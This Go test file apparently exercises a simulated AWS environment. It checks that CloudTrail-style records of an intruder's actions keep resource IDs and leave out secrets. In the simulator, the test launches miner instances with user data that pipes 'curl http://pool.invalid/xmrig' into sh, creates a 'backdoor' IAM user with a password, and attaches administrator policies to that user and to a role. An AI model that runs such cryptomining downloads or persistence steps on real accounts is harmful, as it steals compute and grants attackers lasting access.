package world

import (
	"archive/zip"
	"bytes"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"sort"
	"strings"
	"testing"
	"time"

	"github.com/aws/aws-sdk-go-v2/aws"
	"github.com/aws/aws-sdk-go-v2/service/cloudtrail"
	cttypes "github.com/aws/aws-sdk-go-v2/service/cloudtrail/types"
	"github.com/aws/aws-sdk-go-v2/service/ec2"
	ec2types "github.com/aws/aws-sdk-go-v2/service/ec2/types"
	"github.com/aws/aws-sdk-go-v2/service/iam"
	"github.com/aws/aws-sdk-go-v2/service/lambda"
	lambdatypes "github.com/aws/aws-sdk-go-v2/service/lambda/types"
)

// createdView is what an investigation reads from the record of a call that creates
// something (the fields of awsops' createdResources and a few more).
type createdView struct {
	RequestParameters struct {
		UserName     string `json:"userName"`
		RoleName     string `json:"roleName"`
		PolicyARN    string `json:"policyArn"`
		PolicyName   string `json:"policyName"`
		FunctionName string `json:"functionName"`
		KeyName      string `json:"keyName"`
		InstanceType string `json:"instanceType"`
		UserData     string `json:"userData"`
		InstancesSet struct {
			Items []viewLaunch `json:"items"`
		} `json:"instancesSet"`
	} `json:"requestParameters"`
	ResponseElements struct {
		ReservationID string `json:"reservationId"`
		OwnerID       string `json:"ownerId"`
		InstancesSet  struct {
			Items []viewInstance `json:"items"`
		} `json:"instancesSet"`
		SpotInstanceRequestSet struct {
			Items []viewSpot `json:"items"`
		} `json:"spotInstanceRequestSet"`
		FunctionName   string `json:"functionName"`
		FunctionARN    string `json:"functionArn"`
		Runtime        string `json:"runtime"`
		Role           string `json:"role"`
		KeyName        string `json:"keyName"`
		KeyFingerprint string `json:"keyFingerprint"`
		KeyMaterial    string `json:"keyMaterial"`
		LoginProfile   struct {
			UserName   string `json:"userName"`
			CreateDate string `json:"createDate"`
		} `json:"loginProfile"`
	} `json:"responseElements"`
}

type viewLaunch struct {
	ImageID  string `json:"imageId"`
	MinCount int    `json:"minCount"`
	MaxCount int    `json:"maxCount"`
	KeyName  string `json:"keyName"`
}

type viewInstance struct {
	InstanceID    string `json:"instanceId"`
	InstanceType  string `json:"instanceType"`
	InstanceState struct {
		Name string `json:"name"`
	} `json:"instanceState"`
	Placement struct {
		AvailabilityZone string `json:"availabilityZone"`
	} `json:"placement"`
}

type viewSpot struct {
	ID        string `json:"spotInstanceRequestId"`
	State     string `json:"state"`
	SpotPrice string `json:"spotPrice"`
}

// viewOf decodes a CloudTrail record's JSON, with its EC2 lists sorted by ID.
func viewOf(tb testing.TB, raw []byte) createdView {
	tb.Helper()
	var v createdView
	if err := json.Unmarshal(raw, &v); err != nil {
		tb.Fatalf("record %s: %v", raw, err)
	}
	items := v.ResponseElements.InstancesSet.Items
	sort.Slice(items, func(i, j int) bool { return items[i].InstanceID < items[j].InstanceID })
	spots := v.ResponseElements.SpotInstanceRequestSet.Items
	sort.Slice(spots, func(i, j int) bool { return spots[i].ID < spots[j].ID })
	return v
}

func lambdaZip(tb testing.TB) []byte {
	tb.Helper()
	var b bytes.Buffer
	zw := zip.NewWriter(&b)
	f, err := zw.Create("lambda_function.py")
	if err != nil {
		tb.Fatalf("zip: %v", err)
	}
	if _, err := f.Write([]byte("def handler(event, context):\n    return 'mined'\n")); err != nil {
		tb.Fatalf("zip: %v", err)
	}
	if err := zw.Close(); err != nil {
		tb.Fatalf("zip: %v", err)
	}
	return b.Bytes()
}

// TestCreatedResourcesRecorded drives what an intruder creates with a leaked key and
// checks that both Gateway.Events and LookupEvents carry the IDs the SDK returned,
// and none of the secrets the calls carried.
func TestCreatedResourcesRecorded(t *testing.T) {
	w := newWorld(t)
	ctx := t.Context()
	intruder := newUser(t, w, DefaultAccount, "intruder")
	roleARN := newRole(t, w, DefaultAccount, "fn-exec")
	at := time.Now().Add(-time.Hour).Truncate(time.Second).UTC()
	cfg := w.Config("us-east-1", intruder, WithEventTime(func() time.Time { return at }))
	ec2c, iamc, lambdac := ec2.NewFromConfig(cfg), iam.NewFromConfig(cfg), lambda.NewFromConfig(cfg)

	const (
		password = "Backd00r-Passw0rd!"
		envValue = "env-secret-6f1c2d"
		adminARN = "arn:aws:iam::aws:policy/AdministratorAccess"
		document = `{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Action":"*","Resource":"*"}]}`
	)
	userData := base64.StdEncoding.EncodeToString([]byte("#!/bin/sh\ncurl http://pool.invalid/xmrig | sh\n"))
	code := lambdaZip(t)

	key, err := ec2c.CreateKeyPair(ctx, &ec2.CreateKeyPairInput{KeyName: aws.String("miner")})
	if err != nil {
		t.Fatalf("CreateKeyPair: %v", err)
	}
	run, err := ec2c.RunInstances(ctx, &ec2.RunInstancesInput{
		ImageId: aws.String("ami-12c6146b"), MinCount: aws.Int32(2), MaxCount: aws.Int32(2),
		InstanceType: ec2types.InstanceTypeT3Micro, KeyName: aws.String("miner"), UserData: aws.String(userData),
	})
	if err != nil {
		t.Fatalf("RunInstances: %v", err)
	}
	spot, err := ec2c.RequestSpotInstances(ctx, &ec2.RequestSpotInstancesInput{
		SpotPrice: aws.String("0.05"), InstanceCount: aws.Int32(1),
		LaunchSpecification: &ec2types.RequestSpotLaunchSpecification{
			ImageId: aws.String("ami-12c6146b"), InstanceType: ec2types.InstanceTypeT3Micro,
		},
	})
	if err != nil {
		t.Fatalf("RequestSpotInstances: %v", err)
	}
	fn, err := lambdac.CreateFunction(ctx, &lambda.CreateFunctionInput{
		FunctionName: aws.String("miner-fn"), Runtime: lambdatypes.RuntimePython312, Role: aws.String(roleARN),
		Handler: aws.String("lambda_function.handler"), Code: &lambdatypes.FunctionCode{ZipFile: code},
		Environment: &lambdatypes.Environment{Variables: map[string]string{"POOL_TOKEN": envValue}},
	})
	if err != nil {
		t.Fatalf("CreateFunction: %v", err)
	}
	if _, err := iamc.CreateUser(ctx, &iam.CreateUserInput{UserName: aws.String("backdoor")}); err != nil {
		t.Fatalf("CreateUser: %v", err)
	}
	login, err := iamc.CreateLoginProfile(ctx, &iam.CreateLoginProfileInput{
		UserName: aws.String("backdoor"), Password: aws.String(password),
	})
	if err != nil {
		t.Fatalf("CreateLoginProfile: %v", err)
	}
	if _, err := iamc.AttachUserPolicy(ctx, &iam.AttachUserPolicyInput{UserName: aws.String("backdoor"), PolicyArn: aws.String(adminARN)}); err != nil {
		t.Fatalf("AttachUserPolicy: %v", err)
	}
	if _, err := iamc.PutUserPolicy(ctx, &iam.PutUserPolicyInput{
		UserName: aws.String("backdoor"), PolicyName: aws.String("all"), PolicyDocument: aws.String(document),
	}); err != nil {
		t.Fatalf("PutUserPolicy: %v", err)
	}
	if _, err := iamc.AttachRolePolicy(ctx, &iam.AttachRolePolicyInput{RoleName: aws.String("fn-exec"), PolicyArn: aws.String(adminARN)}); err != nil {
		t.Fatalf("AttachRolePolicy: %v", err)
	}
	if _, err := iamc.PutRolePolicy(ctx, &iam.PutRolePolicyInput{
		RoleName: aws.String("fn-exec"), PolicyName: aws.String("all"), PolicyDocument: aws.String(document),
	}); err != nil {
		t.Fatalf("PutRolePolicy: %v", err)
	}

	want := map[string]createdView{}
	{
		var v createdView
		v.RequestParameters.KeyName = "miner"
		v.ResponseElements.KeyName = *key.KeyName
		v.ResponseElements.KeyFingerprint = *key.KeyFingerprint
		v.ResponseElements.KeyMaterial = "<sensitiveDataRemoved>"
		want["CreateKeyPair"] = v
	}
	{
		var v createdView
		v.RequestParameters.InstanceType = "t3.micro"
		v.RequestParameters.UserData = "<sensitiveDataRemoved>"
		v.RequestParameters.InstancesSet.Items = []viewLaunch{{ImageID: "ami-12c6146b", MinCount: 2, MaxCount: 2, KeyName: "miner"}}
		v.ResponseElements.ReservationID = *run.ReservationId
		v.ResponseElements.OwnerID = DefaultAccount
		for _, in := range run.Instances {
			var vi viewInstance
			vi.InstanceID, vi.InstanceType = *in.InstanceId, string(in.InstanceType)
			vi.InstanceState.Name = string(in.State.Name)
			vi.Placement.AvailabilityZone = *in.Placement.AvailabilityZone
			v.ResponseElements.InstancesSet.Items = append(v.ResponseElements.InstancesSet.Items, vi)
		}
		want["RunInstances"] = viewOf(t, mustJSON(t, v))
	}
	{
		var v createdView
		for _, s := range spot.SpotInstanceRequests {
			v.ResponseElements.SpotInstanceRequestSet.Items = append(v.ResponseElements.SpotInstanceRequestSet.Items,
				viewSpot{ID: *s.SpotInstanceRequestId, State: string(s.State), SpotPrice: *s.SpotPrice})
		}
		want["RequestSpotInstances"] = viewOf(t, mustJSON(t, v))
	}
	{
		var v createdView
		v.RequestParameters.FunctionName = "miner-fn"
		v.ResponseElements.FunctionName = *fn.FunctionName
		v.ResponseElements.FunctionARN = *fn.FunctionArn
		v.ResponseElements.Runtime = string(fn.Runtime)
		v.ResponseElements.Role = *fn.Role
		want["CreateFunction20150331"] = v
	}
	{
		var v createdView
		v.RequestParameters.UserName = "backdoor"
		v.ResponseElements.LoginProfile.UserName = *login.LoginProfile.UserName
		v.ResponseElements.LoginProfile.CreateDate = at.Format("Jan 2, 2006, 3:04:05 PM")
		want["CreateLoginProfile"] = v
	}
	for name, params := range map[string][2]string{
		"AttachUserPolicy": {"backdoor", ""}, "PutUserPolicy": {"backdoor", ""},
		"AttachRolePolicy": {"", "fn-exec"}, "PutRolePolicy": {"", "fn-exec"},
	} {
		var v createdView
		v.RequestParameters.UserName, v.RequestParameters.RoleName = params[0], params[1]
		if strings.HasPrefix(name, "Attach") {
			v.RequestParameters.PolicyARN = adminARN
		} else {
			v.RequestParameters.PolicyName = "all"
		}
		want[name] = v
	}
	secrets := []string{password, envValue, base64.StdEncoding.EncodeToString(code), userData, *key.KeyMaterial}

	check := func(t *testing.T, got map[string][]byte) {
		t.Helper()
		for name, w := range want {
			raw, ok := got[name]
			if !ok {
				t.Errorf("no %s record of the intruder", name)
				continue
			}
			if g := viewOf(t, raw); fmt.Sprintf("%+v", g) != fmt.Sprintf("%+v", w) {
				t.Errorf("%s record:\n got %+v\nwant %+v", name, g, w)
			}
			for _, s := range secrets {
				if strings.Contains(string(raw), s) {
					t.Errorf("%s record carries a secret of the call: %s", name, raw)
				}
			}
		}
	}

	t.Run("Events", func(t *testing.T) {
		got := map[string][]byte{}
		for _, r := range w.Gateway.Events() {
			if r.UserIdentity.AccessKeyID == intruder.AccessKeyID && r.ErrorCode == "" {
				got[r.EventName] = mustJSON(t, r)
			}
		}
		check(t, got)
	})
	t.Run("LookupEvents", func(t *testing.T) {
		out := pacedLookup(t, lookupClient(w, "us-east-1"), &cloudtrail.LookupEventsInput{
			LookupAttributes: []cttypes.LookupAttribute{{
				AttributeKey: cttypes.LookupAttributeKeyUsername, AttributeValue: aws.String("intruder"),
			}},
		})
		got := map[string][]byte{}
		var instances []string
		for _, e := range out.Events {
			got[*e.EventName] = []byte(*e.CloudTrailEvent)
			if *e.EventName == "RunInstances" {
				for _, r := range e.Resources {
					if aws.ToString(r.ResourceType) == "AWS::EC2::Instance" {
						instances = append(instances, aws.ToString(r.ResourceName))
					}
				}
			}
		}
		check(t, got)
		var launched []string
		for _, in := range run.Instances {
			launched = append(launched, *in.InstanceId)
		}
		sort.Strings(instances)
		sort.Strings(launched)
		if g, w := strings.Join(instances, ","), strings.Join(launched, ","); g != w {
			t.Errorf("RunInstances resources = %s, want %s", g, w)
		}
	})
}

func mustJSON(tb testing.TB, v any) []byte {
	tb.Helper()
	b, err := json.Marshal(v)
	if err != nil {
		tb.Fatalf("encode %T: %v", v, err)
	}
	return b
}

// BenchmarkRunInstancesElements times building RunInstances' responseElements from an
// answer of the size moto gives for two instances.
func BenchmarkRunInstancesElements(b *testing.B) {
	item := `<item><instanceId>i-0123456789abcdef0</instanceId><imageId>ami-12c6146b</imageId>` +
		`<instanceState><code>0</code><name>pending</name></instanceState><instanceType>t3.micro</instanceType>` +
		`<placement><groupName/><tenancy>default</tenancy><availabilityZone>us-east-1a</availabilityZone></placement>` +
		`<networkInterfaceSet><item><groupSet><item><groupId>sg-1</groupId><groupName>default</groupName></item></groupSet>` +
		`<privateIpAddressesSet><item><primary>true</primary><privateIpAddress>10.0.0.1</privateIpAddress></item></privateIpAddressesSet>` +
		`</item></networkInterfaceSet><blockDeviceMapping><item><deviceName>/dev/sda1</deviceName></item></blockDeviceMapping></item>`
	body := []byte(`<?xml version="1.0" encoding="utf-8"?><RunInstancesResponse xmlns="http://ec2.amazonaws.com/doc/2016-11-15">` +
		`<reservationId>r-1</reservationId><ownerId>123456789012</ownerId><groupSet/><instancesSet>` +
		strings.Repeat(item, 2) + `</instancesSet></RunInstancesResponse>`)
	for b.Loop() {
		c := &call{op: operation{Service: "ec2", Name: "RunInstances"}, account: DefaultAccount, region: "us-east-1"}
		if out := observeEC2(c, body); out == nil {
			b.Fatal("no responseElements")
		}
	}
}
